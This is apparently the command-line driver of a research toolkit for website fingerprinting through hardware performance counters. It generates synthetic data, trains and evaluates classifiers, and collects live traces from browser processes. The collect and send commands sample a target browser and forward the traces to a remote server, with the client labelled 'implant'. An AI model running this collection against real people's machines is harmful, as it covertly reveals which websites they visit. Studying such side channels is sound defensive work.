// leakedweb: HPC-based website-fingerprinting toolkit.
// One binary exposing the full pipeline: collect | synth | rank | train |
// predict | eval | sweep | serve | send | bench.

#include <chrono>
#include <csignal>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <thread>
#include <unordered_set>

#include <CLI11.hpp>

#include "leakedweb/collector.hpp"
#include "leakedweb/core.hpp"
#include "leakedweb/eval.hpp"
#include "leakedweb/features.hpp"
#include "leakedweb/learners/model.hpp"
#include "leakedweb/net.hpp"
#include "leakedweb/synth.hpp"

namespace lw = leakedweb;

namespace {

volatile std::sig_atomic_t g_interrupted = 0;

void handle_sigint(int) { g_interrupted = 1; }

std::pair<std::string, std::uint16_t> parse_endpoint(const std::string& endpoint) {
  const auto colon = endpoint.rfind(':');
  if (colon == std::string::npos) {
    throw lw::ConfigError("endpoint must be host:port, got '" + endpoint + "'");
  }
  const int port = std::stoi(endpoint.substr(colon + 1));
  if (port < 1 || port > 65535) throw lw::ConfigError("port out of range in '" + endpoint + "'");
  return {endpoint.substr(0, colon), static_cast<std::uint16_t>(port)};
}

lw::GeneratorConfig preset_config(const std::string& preset) {
  if (preset == "desk-closed") return lw::DeskBenchmark::closed_world();
  if (preset == "desk-closed-16ev") return lw::DeskBenchmark::closed_world_16ev();
  if (preset == "desk-open") return lw::DeskBenchmark::open_world();
  throw lw::ConfigError("unknown preset '" + preset +
                        "' (expected desk-closed, desk-closed-16ev, desk-open)");
}

void write_or_print(const std::string& text, const std::string& out_path) {
  if (out_path.empty() || out_path == "-") {
    std::cout << text;
    return;
  }
  std::ofstream out(out_path, std::ios::binary);
  if (!out) throw lw::IoError("cannot write " + out_path);
  out << text;
}

struct SynthArgs {
  std::string signatures_path;
  std::string preset;
  std::size_t traces = 70;
  std::size_t samples = 60;
  std::uint64_t seed = 0;
  std::size_t open_world_extra = 0;
  std::string out_dir;
};

int run_synth(const SynthArgs& args) {
  lw::GeneratorConfig config;
  if (!args.preset.empty()) {
    config = preset_config(args.preset);
  } else {
    if (args.signatures_path.empty()) {
      throw lw::ConfigError("synth needs --signatures or --preset");
    }
    config.signatures = lw::load_signatures(args.signatures_path);
    config.n_traces_per_site = args.traces;
    config.samples_per_trace = args.samples;
    config.open_world_extra = args.open_world_extra;
  }
  config.seed = args.seed;
  const lw::Dataset dataset = lw::generate(config);
  lw::save_dataset(dataset, args.out_dir);
  std::cout << "wrote " << dataset.traces.size() << " traces (" << dataset.class_list.size()
            << " classes) to " << args.out_dir << "\n";
  return 0;
}

struct TrainArgs {
  std::string family = "logitboost";
  std::string data;
  std::string ranking_path;
  std::size_t top_k = 4;
  std::size_t samples = 0;  // 0 = full length
  std::uint64_t seed = 0;
  std::string out = "model.json";
};

int run_train(const TrainArgs& args) {
  lw::Dataset train = lw::load_dataset(args.data);
  if (!args.ranking_path.empty()) {
    const auto ranking = lw::load_ranking(args.ranking_path);
    train = lw::project_events(train, ranking.top_k(args.top_k));
  }
  if (args.samples > 0) train = lw::truncate_samples(train, args.samples);
  const auto family = lw::model_family_from_string(args.family);
  const lw::TrainedModel model = lw::train_family(family, train, args.seed);
  lw::save_model(model, args.out);
  std::cout << "trained " << lw::to_string(family) << " on " << train.traces.size()
            << " traces; model written to " << args.out << "\n";
  return 0;
}

struct CollectArgs {
  std::vector<std::string> targets = {"firefox"};
  std::vector<std::string> events = lw::default_event_names(4);
  double rate = 1.0;
  std::size_t duration = 60;
  std::string out_dir = "traces";
  std::string label;
  std::size_t max_traces = 1;
  std::string forward;  // endpoint for collect -> send chaining
  std::string client_id = "collector";
};

int run_collect(const CollectArgs& args) {
  lw::MonitorConfig config;
  config.target_process_names = args.targets;
  config.events = args.events;
  config.sampling_rate_hz = args.rate;
  config.max_duration_s = args.duration;
  const int paranoid = lw::check_paranoid_level();
  if (paranoid >= 4) {
    throw lw::InvariantError("perf_event_paranoid=" + std::to_string(paranoid) +
                             " forbids HPC collection");
  }
  if (paranoid > 0) {
    std::cerr << "warning: perf_event_paranoid=" << paranoid
              << "; processes of other users cannot be monitored\n";
  }

  std::filesystem::create_directories(args.out_dir);
  std::signal(SIGINT, handle_sigint);
  std::unordered_set<int> monitored;
  std::size_t collected = 0;
  while (collected < args.max_traces && !g_interrupted) {
    for (const auto& [pid, comm] : lw::scan_processes(config)) {
      if (monitored.count(pid)) continue;
      monitored.insert(pid);
      std::cerr << "monitoring pid " << pid << " (" << comm << ") for " << args.duration
                << " s\n";
      auto handle = lw::start_monitor(pid, config);
      for (const auto& [requested, used] : handle->fallbacks()) {
        std::cerr << "warning: event " << requested << " unavailable; using " << used << "\n";
      }
      lw::Trace trace = handle->wait();
      if (!args.label.empty()) trace.label = args.label;

      const std::string name = trace.label + "_" + std::to_string(pid) + "_" +
                               std::to_string(trace.meta.collected_at_unix) + ".csv";
      std::ofstream out(std::filesystem::path(args.out_dir) / name, std::ios::binary);
      lw::write_trace_csv(trace, out);
      std::cout << "wrote " << name << " (" << trace.n_samples() << " samples)\n";
      ++collected;

      if (!args.forward.empty()) {
        const auto [host, port] = parse_endpoint(args.forward);
        const auto result = lw::client_send_trace(host, port, trace, args.client_id);
        std::cout << "server prediction: " << result.predicted_label << "\n";
      }
      if (collected >= args.max_traces) break;
    }
    if (collected < args.max_traces && !g_interrupted) {
      std::this_thread::sleep_for(std::chrono::seconds(config.scan_interval_s));
    }
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"HPC-based website-fingerprinting toolkit"};
  app.require_subcommand(1);
  app.set_config("--config", "", "INI/TOML config overlay (flags win)");
  app.allow_config_extras(false);

  std::uint64_t global_seed = 0;
  app.add_option("--seed", global_seed, "global RNG seed")->envname("LEAKEDWEB_SEED");

  // synth
  SynthArgs synth_args;
  auto* synth = app.add_subcommand("synth", "generate a synthetic dataset");
  synth->add_option("--signatures", synth_args.signatures_path, "signature JSON file");
  synth->add_option("--preset", synth_args.preset, "desk-closed | desk-closed-16ev | desk-open");
  synth->add_option("--traces", synth_args.traces, "traces per site");
  synth->add_option("--samples", synth_args.samples, "samples per trace");
  synth->add_option("--open-world-extra", synth_args.open_world_extra,
                    "unique non-sensitive single-trace sites");
  synth->add_option("--out", synth_args.out_dir, "output dataset directory")->required();

  // rank
  std::string rank_data, rank_policy = "per_sample", rank_out = "ranking.json";
  auto* rank = app.add_subcommand("rank", "correlation-rank the HPC features");
  rank->add_option("--data", rank_data, "dataset manifest")->required();
  rank->add_option("--policy", rank_policy, "per_sample | per_trace_summary");
  rank->add_option("--out", rank_out, "ranking JSON output");

  // train
  TrainArgs train_args;
  auto* train = app.add_subcommand("train", "train a classifier");
  train->add_option("--family", train_args.family, "rf | logitboost | dtwknn | bop | shapelet")
      ->required();
  train->add_option("--data", train_args.data, "dataset manifest")->required();
  train->add_option("--ranking", train_args.ranking_path, "ranking JSON (enables selection)");
  train->add_option("--top-k", train_args.top_k, "events kept from the ranking");
  train->add_option("--samples", train_args.samples, "truncate traces to this many samples");
  train->add_option("--out", train_args.out, "model output path");

  // predict
  std::string predict_model, predict_trace;
  auto* predict_cmd = app.add_subcommand("predict", "classify one trace CSV");
  predict_cmd->add_option("--model", predict_model, "model JSON")->required();
  predict_cmd->add_option("--trace", predict_trace, "trace CSV")->required();

  // eval
  std::string eval_model, eval_data, eval_format = "json", eval_out;
  auto* eval_cmd = app.add_subcommand("eval", "evaluate a model on a dataset");
  eval_cmd->add_option("--model", eval_model, "model JSON")->required();
  eval_cmd->add_option("--data", eval_data, "dataset manifest")->required();
  eval_cmd->add_option("--format", eval_format, "json | csv | markdown");
  eval_cmd->add_option("--out", eval_out, "output file ('-' = stdout)");

  // sweep
  std::string sweep_data, sweep_preset, sweep_format = "csv", sweep_out;
  std::vector<std::string> sweep_families = {"logitboost"};
  std::vector<std::size_t> sweep_traces = {50, 40, 30, 20, 10, 5};
  std::vector<std::size_t> sweep_features = {8, 6, 4, 2};
  std::vector<std::size_t> sweep_samples = {60, 40, 20, 10, 5};
  std::size_t sweep_reps = 1;
  auto* sweep_cmd = app.add_subcommand("sweep", "run the experiment grid");
  sweep_cmd->add_option("--data", sweep_data, "dataset manifest");
  sweep_cmd->add_option("--preset", sweep_preset, "generator preset instead of --data");
  sweep_cmd->add_option("--families", sweep_families, "classifier families")->delimiter(',');
  sweep_cmd->add_option("--train-traces", sweep_traces, "training-traces grid")->delimiter(',');
  sweep_cmd->add_option("--features", sweep_features, "feature-count grid")->delimiter(',');
  sweep_cmd->add_option("--samples", sweep_samples, "samples-per-trace grid")->delimiter(',');
  sweep_cmd->add_option("--reps", sweep_reps, "repetitions with counter-derived seeds");
  sweep_cmd->add_option("--format", sweep_format, "json | csv | markdown");
  sweep_cmd->add_option("--out", sweep_out, "output file ('-' = stdout)");

  // serve
  std::string serve_bind = "127.0.0.1:4915", serve_model, serve_store = "store";
  std::size_t serve_max_payload = lw::kDefaultMaxPayload;
  auto* serve_cmd = app.add_subcommand("serve", "run the trace-analysis server");
  serve_cmd->add_option("--bind", serve_bind, "host:port");
  serve_cmd->add_option("--model", serve_model, "model JSON")->required();
  serve_cmd->add_option("--store", serve_store, "trace store root");
  serve_cmd->add_option("--max-payload", serve_max_payload, "payload cap in bytes");

  // send
  std::string send_endpoint, send_trace, send_client = "implant", send_spool = "spool";
  std::size_t send_retries = 5;
  double send_delay = 1.0;
  auto* send_cmd = app.add_subcommand("send", "upload a trace and print the prediction");
  send_cmd->add_option("--endpoint", send_endpoint, "host:port")->required();
  send_cmd->add_option("--trace", send_trace, "trace CSV")->required();
  send_cmd->add_option("--client-id", send_client, "client identifier");
  send_cmd->add_option("--spool", send_spool, "spool directory for failed deliveries");
  send_cmd->add_option("--retries", send_retries, "max delivery attempts");
  send_cmd->add_option("--retry-delay", send_delay, "base backoff seconds");

  // bench
  std::string bench_victim;
  std::vector<double> bench_rates = {1.0};
  std::size_t bench_reps = 5;
  auto* bench_cmd = app.add_subcommand("bench", "measure monitoring overhead");
  bench_cmd->add_option("--victim", bench_victim, "victim shell command")->required();
  bench_cmd->add_option("--rates", bench_rates, "sampling rates in Hz")->delimiter(',');
  bench_cmd->add_option("--reps", bench_reps, "repetitions per point");

  // collect
  CollectArgs collect_args;
  auto* collect_cmd = app.add_subcommand("collect", "live HPC collection");
  collect_cmd->add_option("--targets", collect_args.targets, "process names")->delimiter(',');
  collect_cmd->add_option("--events", collect_args.events, "HPC events")->delimiter(',');
  collect_cmd->add_option("--rate", collect_args.rate, "sampling rate Hz");
  collect_cmd->add_option("--duration", collect_args.duration, "seconds per trace");
  collect_cmd->add_option("--out-dir", collect_args.out_dir, "trace output directory");
  collect_cmd->add_option("--label", collect_args.label, "label for saved traces");
  collect_cmd->add_option("--max-traces", collect_args.max_traces, "stop after N traces");
  collect_cmd->add_option("--forward", collect_args.forward, "endpoint to forward traces to");

  try {
    app.parse(argc, argv);
  } catch (const CLI::CallForHelp& e) {
    return app.exit(e);
  } catch (const CLI::ParseError& e) {
    app.exit(e);
    return 2;
  }

  try {
    if (synth->parsed()) {
      synth_args.seed = global_seed;
      return run_synth(synth_args);
    }
    if (rank->parsed()) {
      const auto dataset = lw::load_dataset(rank_data);
      const auto ranking =
          lw::rank_features(dataset, lw::instance_policy_from_string(rank_policy));
      lw::save_ranking(ranking, rank_out);
      std::cout << "top events:";
      for (const auto& event : ranking.top_k(std::min<std::size_t>(4, ranking.entries.size()))) {
        std::cout << ' ' << event;
      }
      std::cout << "\nranking written to " << rank_out << "\n";
      return 0;
    }
    if (train->parsed()) {
      train_args.seed = global_seed;
      return run_train(train_args);
    }
    if (predict_cmd->parsed()) {
      const auto model = lw::load_model(predict_model);
      std::ifstream in(predict_trace, std::ios::binary);
      if (!in) throw lw::IoError("cannot open trace " + predict_trace);
      lw::TraceMeta meta;
      meta.source = lw::TraceSource::replay;
      const auto trace = lw::read_trace_csv(in, "unknown", meta);
      const auto result = lw::predict(model, trace);
      std::cout << result.label << "\n";
      for (std::size_t c = 0; c < model.class_list.size(); ++c) {
        std::cout << "  " << model.class_list[c] << ": " << result.scores[c] << "\n";
      }
      return 0;
    }
    if (eval_cmd->parsed()) {
      const auto model = lw::load_model(eval_model);
      const auto dataset = lw::load_dataset(eval_data);
      const auto report = lw::evaluate(model, dataset);
      write_or_print(
          lw::report_string({report}, lw::report_format_from_string(eval_format)), eval_out);
      return 0;
    }
    if (sweep_cmd->parsed()) {
      lw::SweepSpec spec;
      spec.families.clear();
      for (const auto& family : sweep_families) {
        spec.families.push_back(lw::model_family_from_string(family));
      }
      spec.train_traces_grid = sweep_traces;
      spec.feature_count_grid = sweep_features;
      spec.samples_grid = sweep_samples;
      spec.repetitions = sweep_reps;
      spec.base_seed = global_seed;
      lw::SweepSource source = sweep_preset.empty()
                                   ? lw::SweepSource(lw::load_dataset(sweep_data))
                                   : lw::SweepSource(preset_config(sweep_preset));
      const auto outcome = lw::run_sweep(source, spec);
      for (const auto& warning : outcome.warnings) std::cerr << "warning: " << warning << "\n";
      write_or_print(
          lw::report_string(outcome.reports, lw::report_format_from_string(sweep_format)),
          sweep_out);
      return 0;
    }
    if (serve_cmd->parsed()) {
      const auto [host, port] = parse_endpoint(serve_bind);
      lw::ServerConfig config;
      config.bind_address = host;
      config.port = port;
      config.store_root = serve_store;
      config.max_payload = serve_max_payload;
      lw::TraceServer server(config, lw::load_model(serve_model));
      const auto bound = server.start();
      std::cout << "listening on " << host << ":" << bound << "\n";
      server.wait();
      return 0;
    }
    if (send_cmd->parsed()) {
      const auto [host, port] = parse_endpoint(send_endpoint);
      std::ifstream in(send_trace, std::ios::binary);
      if (!in) throw lw::IoError("cannot open trace " + send_trace);
      lw::TraceMeta meta;
      meta.source = lw::TraceSource::live;
      const auto trace = lw::read_trace_csv(in, "unknown", meta);
      lw::RetryPolicy retry;
      retry.max_attempts = send_retries;
      retry.base_delay_s = send_delay;
      const auto result = lw::client_send_trace(host, port, trace, send_client, retry, send_spool);
      std::cout << result.predicted_label << "\n";
      return 0;
    }
    if (bench_cmd->parsed()) {
      const auto report = lw::run_overhead_bench(bench_victim, bench_rates, bench_reps);
      std::cout << "baseline: " << report.baseline_runtime_s << " s over " << report.repetitions
                << " runs\n";
      for (std::size_t i = 0; i < report.rates_hz.size(); ++i) {
        std::cout << report.rates_hz[i] << " Hz: " << report.victim_runtime_s[i] << " s ("
                  << report.overhead_pct[i] << "% overhead)\n";
      }
      return 0;
    }
    if (collect_cmd->parsed()) {
      return run_collect(collect_args);
    }
  } catch (const lw::Error& e) {
    std::cerr << "error: " << e.what() << "\n";
    return 1;
  } catch (const std::exception& e) {
    std::cerr << "error: " << e.what() << "\n";
    return 1;
  }
  return 2;
}
